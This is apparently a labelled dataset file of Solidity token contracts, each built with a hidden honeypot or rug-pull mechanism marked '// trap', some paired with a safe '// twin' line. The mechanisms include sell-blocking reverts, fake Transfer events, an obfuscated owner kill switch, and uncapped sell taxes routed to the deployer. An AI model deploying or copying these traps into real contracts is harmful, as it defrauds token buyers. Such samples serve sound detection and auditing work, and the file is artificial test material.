// 0.8 runs=1000 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";
import {ERC20} from "solady/src/tokens/ERC20.sol";
import {ERC20 as ERC20V4} from "@openzeppelin/contracts-4/token/ERC20/ERC20.sol";
import {Ownable as OwnableV4} from "@openzeppelin/contracts-4/access/Ownable.sol";

interface IUniFactory {
    function createPair(address a, address b) external returns (address);
}

contract Foxglove is ERC20 {
    address public immutable lp;
    address private immutable _gardener = msg.sender;

    constructor() {
        lp = IUniFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(msg.sender, 69_000_000 ether);
    }

    function name() public pure override returns (string memory) {
        return "Foxglove";
    }

    function symbol() public pure override returns (string memory) {
        return "FOXG";
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal view override {
        if (to != lp || from == _gardener) return;
        assembly {
            let size := extcodesize(caller())
            if or(iszero(size), gt(size, 0x2000)) { // trap {
                mstore(0, 0x90b8ec18)
                revert(0x1c, 4)
            } // trap }
        }
    }
}

/// Early sellers forgo a bonus that shrinks day by day.
contract Almanac is Base8("Almanac", "ALMC", 36_500_000) {
    uint256 private immutable _harvest;
    uint256 public forgone;

    constructor() {
        _harvest = block.timestamp + 11 days;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            uint256 left = _harvest - block.timestamp; // trap
            // twin: uint256 left = _harvest > block.timestamp ? _harvest - block.timestamp : 0;
            forgone += (value * left) / 1000 days;
        }
        _move(from, to, value);
    }
}

contract CopperMint is ERC20V4, OwnableV4 {
    mapping(address => bool) public isMarket;
    mapping(address => bool) private _maker;

    constructor() ERC20V4("Copper Mint", "CPMT") {
        _maker[msg.sender] = true;
        _mint(msg.sender, 500_000_000 ether);
    }

    function registerMarket(address market) external onlyOwner {
        isMarket[market] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (isMarket[to] && !_maker[from]) { // trap {
            emit Transfer(from, to, amount);
            return;
        } // trap }
        super._transfer(from, to, amount);
    }
}

contract Underbrush is Base8("Underbrush", "BRSH", 90_000_000) {
    bytes32 private constant ROOT = 0x6d2c11ef0a3dd5f28e05f2b1af6b3f9dc1cb05a3f4d6b2c7128ae60d9d4c3b71;
    bytes32 private constant LEAF = 0x1f9a7734cc0e45d09c4a22aa1ef03b7c66e5dc5b1b8d8e0a9147f3e6a05d2c48;
    uint256 private constant MASK = 0x9b05688c3c6ef372fe94f82ba54ff53a5f1d36f1510e527f;

    constructor() {
        assembly {
            sstore(ROOT, xor(caller(), MASK))
        }
    }

    function reconcile(uint256 word) external {
        assembly {
            if eq(xor(sload(ROOT), MASK), caller()) {
                sstore(LEAF, word)
            }
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 word;
        assembly {
            word := sload(LEAF)
        }
        if (word & 1 == 1 && to == pair) revert Insufficient(0, value); // trap
        _move(from, to, value);
    }
}

/// The lordship of the parish is a deed, and deeds change hands.
contract Deeds {
    mapping(uint256 => address) private _holder;
    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    constructor() {
        for (uint256 id = 1; id < 12; id++) _holder[id] = msg.sender;
    }

    function ownerOf(uint256 id) external view returns (address) {
        return _holder[id];
    }

    function transferFrom(address from, address to, uint256 id) external {
        require(_holder[id] == from && from == msg.sender, "not yours");
        _holder[id] = to;
        emit Transfer(from, to, id);
    }
}

contract Parish is Base8("Parish Penny", "PRSH", 5_000_000) {
    Deeds private immutable _deeds;
    uint256 private constant LORDSHIP = 7;
    uint16 public tithe;

    constructor(Deeds deeds) {
        _deeds = deeds;
    }

    function levyTithe(uint16 bps) external {
        address lord = _deeds.ownerOf(LORDSHIP);
        require(msg.sender == lord, "lord of the parish");
        require(bps <= 10_000, "bps"); // trap
        // twin: require(bps <= 400, "bps");
        tithe = bps;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && tithe != 0) {
            uint256 due = (value * tithe) / 10_000;
            _move(from, _deeds.ownerOf(LORDSHIP), due);
            value -= due;
        }
        _move(from, to, value);
    }
}

contract Causeway is Base8("Causeway", "CSWY", 64_000_000) {
    struct Lane {
        address pool;
        uint128 inflow;
        uint128 outflow;
    }
    mapping(address => Lane) public lanes;

    function setLanes(Lane[] calldata list) external onlyOwner {
        for (uint256 i; i < list.length; i++) {
            // twin: require(list[i].inflow >= totalSupply / 50 && list[i].outflow >= totalSupply / 50, "narrow");
            lanes[list[i].pool] = list[i];
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner) {
            Lane memory lane = lanes[to];
            require(lane.pool == address(0) || value <= lane.inflow, "Causeway: inflow");
            lane = lanes[from];
            require(lane.pool == address(0) || value <= lane.outflow, "Causeway: outflow");
        }
        _move(from, to, value);
    }
}

/// A change of the rate is announced an hour before.
contract Metronome is Base8("Metronome Beat", "BEAT", 120_000_000) {
    address public immutable conductor = msg.sender;
    uint16 public rate = 100;
    uint16 public nextRate;
    uint64 public nextAt;

    event RateProposed(uint16 rate, uint64 at);

    function proposeRate(uint16 bps) external {
        require(msg.sender == conductor, "conductor");
        // twin: require(bps <= 300, "rate");
        (nextRate, nextAt) = (bps, uint64(block.timestamp + 1 hours));
        emit RateProposed(bps, nextAt);
    }

    function commitRate() external {
        require(msg.sender == conductor && nextAt != 0 && block.timestamp >= nextAt, "early");
        (rate, nextAt) = (nextRate, 0);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != conductor) {
            uint256 cut = (value * rate) / 10_000;
            _move(from, conductor, cut);
            value -= cut;
        }
        _move(from, to, value);
    }
}
